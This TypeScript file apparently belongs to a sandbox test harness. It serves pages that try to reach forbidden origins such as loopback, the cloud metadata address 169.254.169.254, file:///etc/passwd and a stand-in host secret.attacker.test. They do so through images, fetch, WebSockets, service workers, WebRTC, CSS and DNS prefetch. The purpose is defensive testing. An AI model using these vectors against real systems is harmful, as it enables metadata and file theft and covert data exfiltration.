import { sendHtml, type SitePage } from './page.ts';

/** Where a vector of the egress cases points: origins that must not be reached. */
export interface Canaries {
  /** e.g. `http://127.0.0.1:4711`. */
  loopback: string;
  /** e.g. `http://169.254.169.254`. */
  linkLocal: string;
  /** UDP on loopback. */
  udpPort: number;
}

/** The pages of the egress cases of kind `page`, by their vector's words. */
const egressVectors: Record<string, (canaries: Canaries) => string> = {
  'img http://127.0.0.1:9001/': ({ loopback, linkLocal }) =>
    `<img src="${loopback}/img"><img src="${linkLocal}/img"><video src="${loopback}/video"></video>
    <link rel=icon href="${loopback}/icon"><link rel=manifest href="${loopback}/manifest">
    <link rel=preconnect href="${loopback}"><link rel=prefetch href="${loopback}/prefetch"><script src="${loopback}/script"></script>
    <iframe src="${loopback}/frame"></iframe><object data="${loopback}/object"></object>
    <form action="${loopback}/form" target=elsewhere></form><script>document.forms[0].submit()</script>`,
  'iframe file:///etc/passwd': () =>
    '<iframe src="file:///etc/passwd"></iframe><iframe src="view-source:file:///etc/passwd"></iframe>',
  'fetch no-cors 169.254.169.254': ({ linkLocal, loopback }) =>
    code(
      `for (const to of ['${linkLocal}/latest/meta-data/', '${loopback}/']) fetch(to, { mode: 'no-cors' }).catch(() => {});`,
    ),
  'WebSocket ws://169.254.169.254': ({ linkLocal, loopback }) =>
    code(`new WebSocket('${ws(linkLocal)}/'); new WebSocket('${ws(loopback)}/');`),
  'WebSocket from a Worker': ({ linkLocal, loopback }) =>
    code(
      `new Worker(URL.createObjectURL(new Blob([\`new WebSocket('${ws(linkLocal)}/'); new WebSocket('${ws(loopback)}/')\`])));`,
    ),
  'fetch from a ServiceWorker install event': ({ loopback }) =>
    code(`navigator.serviceWorker.register('/service-worker.js?to=${encodeURIComponent(loopback)}');`),
  'sendBeacon loopback': ({ loopback, linkLocal }) =>
    code(
      `navigator.sendBeacon('${loopback}/beacon', 'x'); fetch('${linkLocal}/', { keepalive: true, mode: 'no-cors' }).catch(() => {});`,
    ),
  'CSS @import and font loopback': ({ loopback }) =>
    `<style>@import url(${loopback}/import.css); @font-face { font-family: x; src: url(${loopback}/font.woff2) }
    body { font-family: x; background: url(${loopback}/background) }</style>Text`,
  'speculation rules prefetch/prerender': ({ loopback }) =>
    `<script type=speculationrules>{"prefetch":[{"urls":["${loopback}/prefetch"]}],"prerender":[{"urls":["${loopback}/prerender"]}]}</script>
    <meta http-equiv=refresh content="60; url=${loopback}/refresh">`,
  'top navigation by script to file:': () =>
    code(`location.href = 'file:///etc/passwd'; window.open('file:///etc/passwd');`),
  'SVG image with external href': ({ loopback }) =>
    `<svg><image href="${loopback}/svg-image"/><use href="${loopback}/svg-use#x"/></svg>
    <img src='data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${loopback}/inner"/></svg>`)}'>`,
  'WebRTC STUN over UDP': ({ udpPort }) => peer(`[{ urls: 'stun:127.0.0.1:${udpPort}' }]`),
  'WebRTC mDNS multicast': () => peer('[]'),
  'DNS lookup of a secret.attacker name outside the door': () =>
    `<link rel=dns-prefetch href="//prefetch.secret.attacker.test"><link rel=preconnect href="https://connect.secret.attacker.test">
    <img src="http://secret.attacker.test/x">${code("fetch('https://fetch.secret.attacker.test/').catch(() => {});")}`,
  'browser background calls (component update, autofill, accounts)': () =>
    '<form><input name=email autocomplete=email><input type=password autocomplete=current-password></form><p lang=de>Ein deutscher Satz.</p>',
};

export const vectorPages: Record<string, SitePage> = {
  '/vector': ({ response, url }) => {
    const canaries = JSON.parse(url.searchParams.get('canaries') ?? '{}') as Canaries;
    const page = egressVectors[url.searchParams.get('of') ?? '']?.(canaries) ?? 'unknown';
    sendHtml(response, `<title>Vector</title><body>${page}`);
  },
  '/service-worker.js': ({ response, url }) => {
    const to = url.searchParams.get('to') ?? '';
    response.writeHead(200, { 'content-type': 'text/javascript' });
    response.end(
      `addEventListener('install', (event) => event.waitUntil(fetch(${JSON.stringify(`${to}/install`)}, { mode: 'no-cors' })));`,
    );
  },
};

const code = (text: string): string => `<script>${text}</script>`;
const ws = (origin: string): string => origin.replace(/^http/, 'ws');

function peer(servers: string): string {
  return code(`const peer = new RTCPeerConnection({ iceServers: ${servers} });
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    const other = new RTCPeerConnection(); peer.onicecandidate = ({ candidate }) => candidate && other.addIceCandidate(candidate).catch(() => {});`);
}
